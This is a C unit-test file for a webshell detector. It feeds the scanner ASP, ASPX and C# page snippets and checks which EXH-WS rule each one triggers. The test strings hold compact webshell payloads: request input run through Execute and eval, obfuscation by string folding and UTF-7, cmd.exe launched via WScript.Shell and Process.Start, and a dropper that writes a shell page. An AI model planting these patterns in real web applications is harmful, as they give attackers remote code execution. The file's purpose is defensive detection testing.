/* test_webshell.c: the server-code analysis of det_webshell.c, one page at a
 * time through exh_scan_memory(): which EXH-WS rule a page gives (or none),
 * and which technique its message names. Each case isolates one mechanism
 * (string folding, UTF-7, functions and wrappers, scoping and case, server
 * controls, nested code, the new sinks, sanitisers) with a hit and a near
 * miss; the last cases check the hostile-input bounds (work budget, nesting
 * depth, folding caps). */
#include <stdlib.h>
#include <string.h>

#include "exh/core.h"
#include "exh/scan.h"
#include "t.h"

struct page {
    const char *name; /* file name: decides the language and mode */
    const char *text;
    const char *rule; /* expected EXH-WS rule, "" for none */
    const char *what; /* a phrase the message must hold (NULL: not checked) */
};

static void run(struct exh_result *r, const char *name, const char *data, size_t n)
{
    struct exh_scan_opts o;
    exh_scan_opts_init(&o);
    o.frozen_clock = true;
    o.frozen_now_ms = 1767225600000; /* 2026-01-01 */
    memset(r, 0, sizeof(*r));
    CHECK_EQ_INT(exh_scan_memory(&o, name, (const uint8_t *)data, n, r), EXH_OK);
}

/* The EXH-WS finding of a result (there is at most one per page), or NULL. */
static const struct exh_finding *ws(const struct exh_result *r)
{
    for (size_t i = 0; i < r->nfindings; i++)
        if (!strncmp(r->findings[i].rule->id, "EXH-WS-", 7))
            return &r->findings[i];
    return NULL;
}

static void check_pages(const struct page *p, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        T_CTX(p[i].name);
        struct exh_result r;
        run(&r, p[i].name, p[i].text, strlen(p[i].text));
        const struct exh_finding *f = ws(&r);
        if (!*p[i].rule) {
            CHECK_EQ_STR(f ? f->rule->id : "", "");
        } else {
            CHECK_EQ_STR(f ? f->rule->id : "(none)", p[i].rule);
            if (f && p[i].what)
                CHECK(strstr(f->message, p[i].what) != NULL);
        }
        exh_result_release(&r);
    }
    T_CTX(NULL);
}

#define N(a) (sizeof(a) / sizeof((a)[0]))

/* Strings built from constants are folded and, when run, analysed as code. */
static void test_folding(void)
{
    static const struct page p[] = {
        {"concat.asp", "<%Execute(\"Ex\"&\"ecute(Req\"&\"uest(\"\"a\"\"))\")%>", "EXH-WS-001",
         "request input run as code"},
        {"chr.asp", "<%Execute(Chr(69)&Chr(120)&\"ecute Request(\"\"b\"\")\")%>", "EXH-WS-001",
         NULL},
        {"chrw-hex.asp", "<%Execute(ChrW(&H45)&\"xecute Request(\"\"b\"\")\")%>", "EXH-WS-001",
         NULL},
        {"replace.asp",
         "<%\nq=\"E_x_e_c_u_t_e Request(\"\"c\"\")\"\nq=Replace(q,\"_\",\"\")\nExecute q\n%>",
         "EXH-WS-001", NULL},
        {"reverse.asp", "<%Execute(StrReverse(\")\"\"d\"\"(tseuqeR etucexE\"))%>", "EXH-WS-001",
         NULL},
        {"jscript-plus.aspx",
         "<%@ Page Language=\"JScript\" %><%var "
         "P=\"ev\"+\"al(Req\"+\"uest['e'],'unsafe')\";eval(P,\"un\"+\"safe\");%>",
         "EXH-WS-001", NULL},
        /* text that folds to something harmless stays quiet: it is run, but
         * it is neither request input nor built from many fragments */
        {"harmless-fold.asp", "<%Execute(\"x = 1\")%>", "", NULL},
        /* folded but benign: a message assembled and written, not run */
        {"written.asp", "<%Response.Write(\"Ex\"&\"ecute\"&Chr(33))%>", "", NULL},
    };
    check_pages(p, N(p));
}

/* CodePage 65000 pages are UTF-7: decoded before the analysis. */
static void test_utf7(void)
{
    static const struct page p[] = {
        {"utf7.asp", "<%@ CodePage=65000 %>\n<%+AEU-xecute(Request(+ACI-w+ACI))%>", "EXH-WS-001",
         NULL},
        /* without the code page the same bytes are plain text: no shell */
        {"not-utf7.asp", "<%@ CodePage=65001 %>\n<%+AEU-xecute(Request(+ACI-w+ACI))%>", "", NULL},
    };
    check_pages(p, N(p));
}

/* Parameters, return values and wrappers. */
static void test_functions(void)
{
    static const struct page p[] = {
        {"vb-wrapper.asp",
         "<%\nFunction Run(c)\nSet o = CreateObject(\"WScript.Shell\")\nRun = "
         "o.Exec(c).StdOut.ReadAll\nEnd Function\n"
         "Response.Write Run(\"cmd /c \" & Request(\"q\"))\n%>",
         "EXH-WS-003", "process started"},
        {"vb-wrapper-const.asp",
         "<%\nFunction Run(c)\nSet o = CreateObject(\"WScript.Shell\")\nRun = "
         "o.Exec(c).StdOut.ReadAll\nEnd Function\n"
         "Response.Write Run(\"hostname\")\n%>",
         "", NULL},
        {"cs-return.aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">\nstring Arg() { return "
         "Request.Form[\"a\"]; }\n"
         "void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start(\"cmd.exe\", "
         "Arg()); }\n</script>",
         "EXH-WS-003", NULL},
        {"js-unsafe-wrapper.aspx",
         "<script runat=\"server\" language=\"JScript\">\nfunction h(x) { var m = \"un\" + "
         "\"safe\"; return eval(x, m); }\n</script>",
         "EXH-WS-006", "full trust"},
    };
    check_pages(p, N(p));
}

/* C# is case-sensitive and scoped per method. */
static void test_scoping(void)
{
    static const struct page p[] = {
        /* `request` is an HttpWebRequest, `Path` a type: neither is input */
        {"Client.cs",
         "using System.IO; using System.Net;\nclass C {\n void Post(string url) {\n"
         "  var request = (HttpWebRequest)WebRequest.Create(\"https://api.contoso.com/x\");\n"
         "  using (var w = new StreamWriter(request.GetRequestStream())) w.Write(\"{}\");\n"
         "  string p = Path.Combine(\"C:\\\\data\", \"x.txt\");\n  File.WriteAllText(p, \"ok\");\n "
         "}\n}\n",
         "", NULL},
        /* a name tainted in one method is not the same variable in another */
        {"Scoped.cs",
         "using System.IO;\nclass D : System.Web.UI.Page {\n void A() { string path = "
         "Request[\"p\"]; Response.Write(path); }\n"
         " void B() { string path = Server.MapPath(\"~/App_Data/log.txt\"); "
         "File.AppendAllText(path, \"x\"); }\n}\n",
         "", NULL},
        {"Unscoped.cs",
         "using System.IO;\nclass D : System.Web.UI.Page {\n void A() { string path = "
         "Request[\"p\"]; File.WriteAllText(path, Request[\"c\"]); }\n}\n",
         "EXH-WS-004", NULL},
    };
    check_pages(p, N(p));
}

/* Server controls declared in the page carry the client's input. */
static void test_controls(void)
{
    static const struct page p[] = {
        {"textbox.aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n"
         " System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Cmd.Text); }\n</script>\n"
         "<form runat=\"server\"><asp:TextBox ID=\"Cmd\" runat=\"server\" /></form>",
         "EXH-WS-003", NULL},
        /* a Label is output, not input */
        {"label.aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n"
         " System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Info.Text); }\n</script>\n"
         "<form runat=\"server\"><asp:Label ID=\"Info\" runat=\"server\" /></form>",
         "", NULL},
    };
    check_pages(p, N(p));
}

/* Code carried in strings: written pages, XSLT scripts. */
static void test_nested(void)
{
    static const struct page p[] = {
        {"dropper.ashx",
         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.IO;\npublic class H {\n"
         " public void ProcessRequest(System.Web.HttpContext c) {\n"
         "  File.WriteAllText(c.Server.MapPath(\"s.asp\"), \"<%Execute Request(\\\"x\\\")%\" + "
         "\">\");\n }\n}\n",
         "EXH-WS-001", "carried in a string"},
        {"xslt.aspx",
         "<%@ Page Language=\"C#\" %><%\nstring x = @\"<msxsl:script language=\"\"JScript\"\" "
         "implements-prefix=\"\"u\"\">"
         "function f() { var r = System.Web.HttpContext.Current.Request; eval(r.Form['x'], "
         "'unsafe'); }</msxsl:script>\";\n%>",
         "EXH-WS-001", NULL},
        /* a page in a string that does nothing dangerous */
        {"template.ashx",
         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H {\n"
         " public string Page() { return \"<%@ Page Language=\\\"C#\\\" %><p>Hello</p>\"; }\n}\n",
         "", NULL},
    };
    check_pages(p, N(p));
}

/* The sinks added for the public collections. */
static void test_sinks(void)
{
    static const struct page p[] = {
        {"sql.aspx",
         "<%@ Page Language=\"C#\" %><% var c = new "
         "System.Data.SqlClient.SqlConnection(Request[\"cs\"]); c.Open(); %>",
         "EXH-WS-014", "SQL"},
        {"sql-param.aspx",
         "<%@ Page Language=\"C#\" %><% var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT * "
         "FROM T WHERE id=@i\", conn);"
         " cmd.Parameters.AddWithValue(\"@i\", Request[\"id\"]); %>",
         "", NULL},
        {"stdin.ashx",
         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void P(System.Web.HttpContext "
         "ctx) {\n"
         " var p = new System.Diagnostics.Process(); p.Start(); "
         "p.StandardInput.WriteLine(ctx.Request[\"c\"]); } }\n",
         "EXH-WS-003", NULL},
        {"fso.asp",
         "<%\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nf.DeleteFile "
         "Request(\"p\")\n%>",
         "EXH-WS-004", "file system"},
        {"download.asp",
         "<%\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", "
         "\"http://files.contoso.com/a\", False\nh.Send\n"
         "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write "
         "h.ResponseBody\ns.SaveToFile Server.MapPath(\"a.asp\"), 2\n%>",
         "EXH-WS-004", "download"},
        {"download-image.asp",
         "<%\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", "
         "\"http://files.contoso.com/a\", False\nh.Send\n"
         "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write "
         "h.ResponseBody\ns.SaveToFile Server.MapPath(\"logo.png\"), 2\n%>",
         "", NULL},
        {"proxy.asp",
         "<%\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", Request(\"u\"), "
         "False\nh.Send\n%>",
         "EXH-WS-008", "URL"},
        {"fixed-proxy.asp",
         "<%\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", "
         "\"https://api.contoso.com/?q=\" & Server.URLEncode(Request(\"q\")), False\n%>",
         "", NULL},
        {"droprun.asp",
         "<%\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = "
         "f.CreateTextFile(\"c:\\windows\\temp\\u.vbs\", True)\n"
         "t.Write \"WScript.Echo 1\"\nt.Close\nSet w = CreateObject(\"WScript.Shell\")\nw.Run "
         "\"c:\\windows\\temp\\u.vbs\", 0\n%>",
         "EXH-WS-003", "runs it"},
        {"include.asp", "<!--#include file=\"pic.gif\"-->\n<p>x</p>", "EXH-WS-015", NULL},
        {"include-ok.asp", "<!--#include file=\"inc/header.inc\"-->\n<p>x</p>", "", NULL},
        {"comrun.asp",
         "<%\nSet e = Server.CreateObject(\"Vendor.Engine\")\ne.Run \"x\", Request, Response, "
         "Server\n%>",
         "EXH-WS-006", "COM object"},
        {"alias.asp",
         "<script runat=\"server\" language=\"JScript\">var o = {r: eval}; o.r(Request.Form(\"d\") "
         "+ \"\");</script>",
         "EXH-WS-001", NULL},
        {"fragment.asp", "0\":Execute(Request(\"z\")):x=\"\n", "EXH-WS-001", NULL},
    };
    check_pages(p, N(p));
}

/* Sanitisers and guards that keep ordinary code quiet. */
static void test_sanitisers(void)
{
    static const struct page p[] = {
        {"dotdot.ashx",
         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void P(System.Web.HttpContext "
         "c) {\n"
         " string v = c.Request.Params[\"dir\"].Replace(\"..\", string.Empty);\n "
         "c.Request.Files[0].SaveAs(v); } }\n",
         "", NULL},
        {"guid.aspx",
         "<%@ Page Language=\"C#\" %><% var g = new Guid(Request[\"id\"]); "
         "System.IO.File.WriteAllText(Server.MapPath(\"~/d/\") + g, \"x\"); %>",
         "", NULL},
        {"null-check-gate.aspx",
         "<%@ Page Language=\"C#\" %><% if (Request.Params.Get(\"addpart\") != null) { "
         "System.Reflection.Assembly.LoadFrom(Server.MapPath(\"~/bin/p.dll\")); } %>",
         "", NULL},
        {"upload-allowlist.aspx",
         "<%@ Page Language=\"C#\" %><% var up = Request.Files[0]; if "
         "(System.IO.Path.GetExtension(up.FileName) == \".jpg\")"
         " up.SaveAs(System.IO.Path.Combine(Server.MapPath(\".\"), "
         "System.IO.Path.GetFileName(up.FileName))); %>",
         "", NULL},
        {"upload-any.aspx",
         "<%@ Page Language=\"C#\" %><% var up = Request.Files[0];"
         " up.SaveAs(System.IO.Path.Combine(Server.MapPath(\".\"), "
         "System.IO.Path.GetFileName(up.FileName))); %>",
         "EXH-WS-004", "beside the page"},
    };
    check_pages(p, N(p));
}

/* Hostile input: nesting beyond the work budget is an error record, strings
 * too deep or too long are not followed, and nothing runs away. */
static void test_bounds(void)
{
    struct exh_buf b = {0};
    exh_buf_adds(&b, "<% ");
    for (int i = 0; i < 40000; i++)
        exh_buf_adds(&b, "eval(");
    struct exh_result r;
    run(&r, "nested.aspx", b.p, b.n);
    CHECK(r.nerrors >= 1);
    if (r.nerrors)
        CHECK(strstr(r.errors[0].message ? r.errors[0].message : "", "budget") != NULL);
    exh_result_release(&r);

    /* a chain of three nested strings: the third level is not analysed
     * (NEST_DEPTH 2), so the page gives nothing rather than recursing */
    exh_buf_reset(&b);
    exh_buf_adds(
        &b,
        "<%@ Page Language=\"JScript\" %><%var a = \"<%var b = '<%eval(Request.Item[1])%>'%>\";%>");
    run(&r, "deep.aspx", b.p, b.n);
    CHECK_EQ_INT(r.nerrors, 0);
    exh_result_release(&r);

    /* 20,000 string variables folded into one another: capped, no blow-up */
    exh_buf_reset(&b);
    exh_buf_adds(&b, "<%\nx0 = \"abcdefghijklmnopqrstuvwxyz0123456789\"\n");
    for (int i = 1; i < 20000; i++)
        exh_buf_addf(&b, "x%d = x%d & x%d\n", i, i - 1, i - 1);
    exh_buf_adds(&b, "Execute x19999\n%>");
    run(&r, "doubling.asp", b.p, b.n);
    CHECK_EQ_INT(r.nerrors, 0);
    exh_result_release(&r);

    /* 40,000 initializers in one statement (the target of each was looked
     * for from the statement's start: quadratic, 45 s), then a shell: found
     * in full, no budget needed */
    exh_buf_reset(&b);
    exh_buf_adds(&b, "<% int ");
    for (int i = 0; i < 40000; i++)
        exh_buf_adds(&b, "a=1,");
    exh_buf_adds(&b, "b=2; eval(Request.Form[\"c\"], \"unsafe\"); %>");
    run(&r, "inits.aspx", b.p, b.n);
    CHECK_EQ_INT(r.nerrors, 0);
    CHECK_EQ_STR(ws(&r) ? ws(&r)->rule->id : "", "EXH-WS-001");
    exh_result_release(&r);

    /* a string that grows by "<%eval(" at each of 10,000 statements: each
     * value is code analysed in nested analyses, which share one allowance
     * (15 s when each had its own); the page's own code is still analysed
     * to its end, and the cut is an error record */
    exh_buf_reset(&b);
    exh_buf_adds(&b, "<% var x = \"a\"; ");
    for (int i = 0; i < 10000; i++)
        exh_buf_adds(&b, "x = x + \"<%eval(\"; ");
    exh_buf_adds(&b, "eval(Request.Form[\"c\"], \"unsafe\"); %>");
    run(&r, "grow.aspx", b.p, b.n);
    CHECK_EQ_INT(r.nerrors, 1);
    if (r.nerrors)
        CHECK(strstr(r.errors[0].message ? r.errors[0].message : "",
                     "strings goes beyond the analysis budget") != NULL);
    CHECK_EQ_STR(ws(&r) ? ws(&r)->rule->id : "", "EXH-WS-001");
    exh_result_release(&r);
    exh_buf_release(&b);
}

int main(void)
{
    T_RUN(test_folding);
    T_RUN(test_utf7);
    T_RUN(test_functions);
    T_RUN(test_scoping);
    T_RUN(test_controls);
    T_RUN(test_nested);
    T_RUN(test_sinks);
    T_RUN(test_sanitisers);
    T_RUN(test_bounds);
    return T_DONE("unit-webshell");
}
